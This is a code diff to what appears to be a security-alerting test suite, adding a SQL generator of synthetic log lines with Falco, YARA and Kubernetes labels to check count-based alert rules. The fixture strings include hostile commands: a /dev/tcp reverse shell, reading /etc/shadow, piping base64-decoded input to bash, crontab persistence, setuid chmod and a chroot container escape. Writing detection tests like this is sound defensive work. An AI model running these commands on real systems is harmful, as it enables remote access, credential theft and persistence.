@@ -12,6 +12,7 @@ from opsignal import shipped_rules
 from opsignal.functions.text import pattern_id
 from opsignal.operators import detect, rules as compiled_rules, scan, templates
 from opsignal.plans.derived import LOGS, RULE_NAME, SIG, logs, signals
+from opsignal.plans.ranges import _ceil
 from opsignal.plans.registry import query
 
 RULES = [
@@ -408,3 +409,42 @@ def _(t):
 def _(t):
     seen = signals(t).filter("event_type = 'error'").select(F.concat(F.lit("p-"), (F.col("user_id") % 50).cast("string")).alias("pattern_id"), "ts")
     return templates.novel_sightings(seen, 4 * 86400)
+
+
+ALERT_LINE = """CASE event_type
+  WHEN 'error' THEN CASE k % 4 WHEN 0 THEN 'bash -i >& /dev/tcp/10.0.0.1/4444' WHEN 1 THEN 'cat /etc/shadow' WHEN 2 THEN 'nmap -sV host' ELSE 'chmod +s /bin/x' END
+  WHEN 'click' THEN CASE k % 3 WHEN 0 THEN 'chroot /proc/1/root' WHEN 1 THEN 'echo x | base64 -d | bash' ELSE 'echo y >> /etc/crontab' END
+  WHEN 'view' THEN 'POST pods/exec' WHEN 'signup' THEN concat('trigger ', k)
+  ELSE CASE k % 4 WHEN 0 THEN '{"security_anomaly": true}' WHEN 1 THEN '{"sigma_match": true}' WHEN 2 THEN 'yara_match WebShell_a' ELSE 'yara_match other' END END"""
+ALERT_LABELS = {
+    "job": "CASE WHEN event_type IN ('error', 'click') THEN 'loki.source.kubernetes.pods' WHEN event_type = 'view' AND k < 10 THEN 'kube-audit' END",
+    "instance": "CASE WHEN user_id % 4 = 0 THEN 'observability/x' ELSE 'app/y' END",
+    "source": "CASE WHEN event_type = 'signup' AND k < 5 THEN 'security/falco-talon' WHEN event_type = 'signup' THEN 'security/falco' END",
+    "falco_priority": "CASE k % 3 WHEN 0 THEN 'Critical' WHEN 1 THEN 'Error' ELSE 'Notice' END",
+    "falco_rule": "concat('rule ', k % 2)",
+    "namespace": "CASE WHEN event_type = 'purchase' THEN 'security' ELSE 'default' END",
+    "app": "CASE WHEN user_id % 2 = 0 THEN 'yara-scanner' ELSE 'other' END",
+    "rule_level": "CASE WHEN user_id % 3 = 0 THEN 'high' ELSE 'low' END",
+}
+
+
+def _count_alert_sql() -> str:
+    parts = []
+    for name, wanted, unwanted, needles, by, span, limit in fv.COUNT_ALERTS:
+        terms = [f"{n} IN ({', '.join(repr(x) for x in v)})" for n, v in wanted.items()]
+        terms += [f"NOT starts_with({n}, '{v}')" for n, v in unwanted.items()] + [f"contains(line, '{x}')" for x in needles]
+        key = f"to_json({{{', '.join(f'{n}: {n}' for n in by)}}})::VARCHAR" if by else "'{}'"
+        back = {"5m": "4 MINUTE", "10m": "9 MINUTE", "2h": "119 MINUTE"}[span]
+        parts.append(f"""SELECT '{name.replace("'", "''")}' AS alert, by_labels, t, sum(n) OVER (PARTITION BY by_labels ORDER BY t RANGE BETWEEN INTERVAL {back} PRECEDING AND CURRENT ROW)::BIGINT AS n,
+            {limit} AS limit_n FROM (SELECT {key} AS by_labels, t, count(*) AS n FROM l WHERE {' AND '.join(terms)} GROUP BY ALL)""")
+    labels = ", ".join(f"coalesce({e}, '') AS {n}" for n, e in ALERT_LABELS.items())
+    return f"""WITH {SIG}, l AS (SELECT {labels}, {ALERT_LINE} AS line, {_ceil("1 MINUTE")} AS t FROM sig), a AS ({" UNION ALL ".join(parts)})
+        SELECT alert, by_labels, t, n FROM a WHERE n > limit_n"""
+
+
+@query("security_count_alerts", _count_alert_sql())
+def _(t):
+    labels = F.create_map(*[x for n, e in ALERT_LABELS.items() for x in (F.lit(n), F.expr(e))])
+    rows = signals(t).select("ts", labels.alias("labels"), F.expr(ALERT_LINE).alias("line"))
+    out = detect.count_alerts(rows, fv.COUNT_ALERTS, "labels", "line", "ts")
+    return out.select("alert", F.to_json("by").alias("by_labels"), "t", "n")
